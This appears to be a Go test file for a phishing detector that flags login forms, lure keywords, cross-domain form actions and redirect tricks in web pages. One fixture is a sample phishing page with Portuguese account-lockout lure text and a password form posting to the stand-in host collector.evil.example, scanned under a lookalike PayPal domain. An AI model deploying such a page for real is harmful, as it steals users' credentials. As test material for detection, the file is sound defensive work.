package extract

import (
	"encoding/json"
	"reflect"
	"strings"
	"testing"
)

const loginPage = `
<html>
<head><title>Entrar</title></head>
<body oncontextmenu="return false">
	<h1>Login</h1>
	<p>Sua conta sofreu bloqueio. Informe sua senha para desbloqueio urgente.</p>
	<form action="https://collector.evil.example/post.php" method="post">
		<input type="text" name="user">
		<input type="PASSWORD" name="pass">
	</form>
	<form action="/local">
		<input type="text" name="q">
	</form>
	<script>setTimeout(function(){ window.location = "/next"; }, 3000)</script>
</body>
</html>`

func TestContentAnalyzer_LoginPage(t *testing.T) {
	meta := NewContentAnalyzer().Analyze(loginPage, "http://paypa1-secure.tk/login")

	if meta.FormCount != 2 {
		t.Errorf("Expected 2 forms, got %d", meta.FormCount)
	}
	if !meta.HasPasswordField {
		t.Error("Expected password field detected")
	}
	if !meta.SensitiveForm {
		t.Error("Expected sensitive form")
	}
	if !meta.LoginLike {
		t.Error("Expected login-like page")
	}

	wantKeywords := []string{"senha", "urgente", "bloqueio", "desbloqueio", "login"}
	if !reflect.DeepEqual(meta.KeywordsFound, wantKeywords) {
		t.Errorf("KeywordsFound = %v, want %v", meta.KeywordsFound, wantKeywords)
	}

	wantActions := []string{"https://collector.evil.example/post.php"}
	if !reflect.DeepEqual(meta.CrossDomainFormActions, wantActions) {
		t.Errorf("CrossDomainFormActions = %v, want %v", meta.CrossDomainFormActions, wantActions)
	}

	wantTricks := []string{TrickRightClickBlocked, TrickTimerScheduling}
	if !reflect.DeepEqual(meta.Tricks, wantTricks) {
		t.Errorf("Tricks = %v, want %v", meta.Tricks, wantTricks)
	}
}

func TestContentAnalyzer_SensitiveFieldNames(t *testing.T) {
	tests := []struct {
		name string
		html string
		want bool
	}{
		{"cpf field", `<form><input name="user_CPF"></form>`, true},
		{"cvv field", `<form><input name="card-cvv"></form>`, true},
		{"otp field", `<form><input name="otp_code"></form>`, true},
		{"2fa field", `<form><input name="code2fa"></form>`, true},
		{"plain search", `<form><input name="q"></form>`, false},
		{"no inputs", `<p>hello</p>`, false},
	}

	analyzer := NewContentAnalyzer()
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			meta := analyzer.Analyze(tt.html, "https://example.com/")
			if meta.SensitiveForm != tt.want {
				t.Errorf("SensitiveForm = %v, want %v", meta.SensitiveForm, tt.want)
			}
			if meta.HasPasswordField {
				t.Error("Expected no password field")
			}
		})
	}
}

func TestContentAnalyzer_SameSiteActionsAreNotCrossDomain(t *testing.T) {
	html := `<body>
		<form action="https://accounts.example.com/submit"></form>
		<form action="/relative"></form>
		<form action=""></form>
		<form action="javascript:void(0)"></form>
	</body>`

	meta := NewContentAnalyzer().Analyze(html, "https://www.example.com/page")
	if len(meta.CrossDomainFormActions) != 0 {
		t.Errorf("Expected no cross-domain actions, got %v", meta.CrossDomainFormActions)
	}
	if meta.FormCount != 4 {
		t.Errorf("Expected 4 forms, got %d", meta.FormCount)
	}
}

func TestContentAnalyzer_ScriptTextIsNotVisible(t *testing.T) {
	html := `<body><p>Welcome</p><script>var login = "senha";</script></body>`

	meta := NewContentAnalyzer().Analyze(html, "https://example.com/")
	if meta.LoginLike {
		t.Error("Expected script content not to count as visible text")
	}
	if len(meta.KeywordsFound) != 0 {
		t.Errorf("Expected no keywords, got %v", meta.KeywordsFound)
	}
}

func TestContentAnalyzer_CleanPage(t *testing.T) {
	meta := NewContentAnalyzer().Analyze(`<html><body><p>Just a blog post.</p></body></html>`, "https://example.com/")

	if meta.FormCount != 0 || meta.SensitiveForm || meta.LoginLike || meta.HasPasswordField {
		t.Errorf("Expected clean meta, got %+v", meta)
	}
	if len(meta.Tricks) != 0 || len(meta.KeywordsFound) != 0 || len(meta.CrossDomainFormActions) != 0 {
		t.Errorf("Expected no findings, got %+v", meta)
	}
}

func TestDetectMetaRefresh(t *testing.T) {
	tests := []struct {
		name string
		html string
		base string
		want string
	}{
		{
			name: "relative target",
			html: `<meta http-equiv="refresh" content="0; url=/next">`,
			base: "https://a.example/start",
			want: "https://a.example/next",
		},
		{
			name: "absolute quoted target, mixed case",
			html: `<meta http-equiv="Refresh" content="5;URL='https://b.example/x'">`,
			base: "https://a.example/",
			want: "https://b.example/x",
		},
		{
			name: "refresh without url",
			html: `<meta http-equiv="refresh" content="30">`,
			base: "https://a.example/",
			want: "",
		},
		{
			name: "other http-equiv",
			html: `<meta http-equiv="content-type" content="text/html; url=/nope">`,
			base: "https://a.example/",
			want: "",
		},
		{
			name: "last refresh wins",
			html: `<meta http-equiv="refresh" content="0; url=/first"><meta http-equiv="refresh" content="0; url=/second">`,
			base: "https://a.example/",
			want: "https://a.example/second",
		},
		{
			name: "no meta",
			html: `<p>hi</p>`,
			base: "https://a.example/",
			want: "",
		},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if got := DetectMetaRefresh(tt.html, tt.base); got != tt.want {
				t.Errorf("DetectMetaRefresh() = %q, want %q", got, tt.want)
			}
		})
	}
}

func TestContentAnalyzer_RecordsMetaRefresh(t *testing.T) {
	html := `<html><head><meta http-equiv="refresh" content="0;url=https://c.example/"></head><body></body></html>`
	meta := NewContentAnalyzer().Analyze(html, "https://a.example/")
	if meta.MetaRefreshTarget != "https://c.example/" {
		t.Errorf("MetaRefreshTarget = %q", meta.MetaRefreshTarget)
	}
}

func TestContentAnalyzer_EmptyListsEncodeAsArrays(t *testing.T) {
	meta := NewContentAnalyzer().Analyze(`<html><body><p>Just a blog post.</p></body></html>`, "https://example.com/")

	data, err := json.Marshal(meta)
	if err != nil {
		t.Fatal(err)
	}
	encoded := string(data)
	for _, field := range []string{`"keywords_found":[]`, `"cross_domain_form_actions":[]`, `"tricks":[]`} {
		if !strings.Contains(encoded, field) {
			t.Errorf("Expected %s in %s", field, encoded)
		}
	}
}
